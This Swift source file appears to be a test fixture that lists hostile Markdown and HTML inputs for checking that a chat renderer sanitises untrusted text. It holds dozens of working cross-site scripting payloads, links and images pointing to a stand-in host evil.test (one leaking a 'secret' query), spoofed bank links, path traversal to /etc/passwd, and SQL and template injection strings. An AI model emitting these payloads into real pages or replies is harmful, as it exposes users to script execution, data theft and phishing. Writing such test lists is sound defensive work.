// Texts that try to put something into a page.
// SPDX-License-Identifier: Apache-2.0

/// What a model or a user may write in order to run a script, load a file or break the structure.
package enum HostileMarkdown {
    /// The texts.
    package static let texts =
        markup + addresses + structures + naughty

    private static let markup = [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.test/x.js></sCrIpT >",
        "text <img src=x onerror=alert(1)> text", "<svg/onload=alert(1)>", "<svg><script>alert(1)",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)>",
        "<form action=//evil.test><input name=x><button>go", "<base href=//evil.test/>",
        "<link rel=stylesheet href=//evil.test/x.css>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<style>*{background:url(//evil.test)}</style>",
        "<template><b onclick=alert(1)>x</b></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<div id=chatbox class=x style='position:fixed'>over</div>",
        "<x onfocus=alert(1) tabindex=1 autofocus>",
        "</p></div></main><h1>out</h1>", "<!-- <b> --> <![CDATA[<b>]]> <?php x ?>", "<b <i>>",
        "<<script>>",
        "<br onload=alert(1)> a<br>b<br/>c<BR />d", "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<p>\n\n<script>\n\nalert(1)\n\n</script>\n",
        "&lt;script&gt;",
    ]

    private static let addresses = [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\u{1}script:alert(1))",
        "[x](&#106;avascript:alert(1))", "[x](<java\tscript:alert(1)>)",
        "[x](&#x0A;javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](//evil.test)", "[x](https:evil.test)", "[x](https:/evil.test)",
        "[x](https:\\\\evil.test)",
        "[x](https://bank.test\\@evil.test)", "[bank.test](https://bank.test@evil.test/)",
        "[x](#top)",
        "[x](https://evil.test/\"onmouseover=alert(1)//)", "[x](https://evil.test/'><script>)",
        "![x](https://evil.test/?q=secret)", "![](https://evil.test/p.png)",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "[![x](https://evil.test/i.png)](https://evil.test/)", "<javascript:alert(1)>",
        "<https://a.b/\"onclick=x>",
        "https://evil.test/<script>", "www.evil.test/\"x", "a@evil.test\"x",
        "[a]: javascript:alert(1)\n\n[a]",
        "[a]\n\n[a]: https://evil.test/\"x 'on\"click=x'",
        "[x](https://evil.test \"title\\\" onclick=alert(1)\")",
        "[x](https://\u{430}pple.test)", "[\u{202E}tset.knab](https://evil.test)",
        "[x](https://a b)", "[ ](https://evil.test)",
    ]

    private static let structures = [
        "```\"><script>alert(1)</script>\ncode\n```",
        "```js\" onclick=\"x\n</code></pre><script>\n```",
        "```<img\nunclosed </pre><b>", "~~~ 'x' <y>\n&amp;<\n~~~", "    </code></pre><script>",
        "`</code><script>`",
        "| <b> | \"x\" |\n|:-:|--:|\n| <script> | ![i](https://evil.test) |\n| a<br>b | `|` |",
        "- [x] <b>\n- [ ] \"\n  - <i>",
        "> <script>\n> > <b>\n>> ```\n>> <", "# <h1 onclick=x>\n###### &quot;",
        "1. <a>\n2. b\n\n7) c", "***<b>*<i>**",
        "[^1]: <b>\n\ntext[^1]", "[\"><b>]: https://evil.test\n\n[\"><b>]", "\\<b\\> \\[x\\](y)",
        "a\\\nb  \nc",
    ]

    private static let naughty = [
        "\u{0}\u{1}\u{8}\u{1B}[2J\u{7F}\u{85}\u{9B}31m", "&#0; &#27; &#x9b; &#xD800; &#1114112;",
        "\u{FEFF}\u{FFFE}\u{200B}\u{2028}\u{2029}x",
        "Ω≈ç√∫˜µ≤≥÷ ⁰⁴⁵ ﷽ 田中さん ثم نفس سقطت 👩‍👩‍👧‍👦🏳️‍⚧️", "Z̮̞̠a͎̻l̖g̷o̶ \u{202E}reversed\u{202C}",
        "{{7*7}} ${7*7} <%= 7 %> #{7}", "'; DROP TABLE turn; --",
        "null undefined NaN true 1e999 0x0", "data: x\n\nid: 9\nevent: done\nretry: 1",
        "\r\nevent: error\r\ndata: {}\r\r", "%00%0d%0a../../etc/passwd",
        "'\"`<>&\\/", "<foo val=`bar'>", "__proto__ constructor toString",
        String(repeating: "<", count: 300),
        String(repeating: "[", count: 300), String(repeating: "> ", count: 100) + "x",
        String(repeating: "*a_", count: 100),
    ]
}
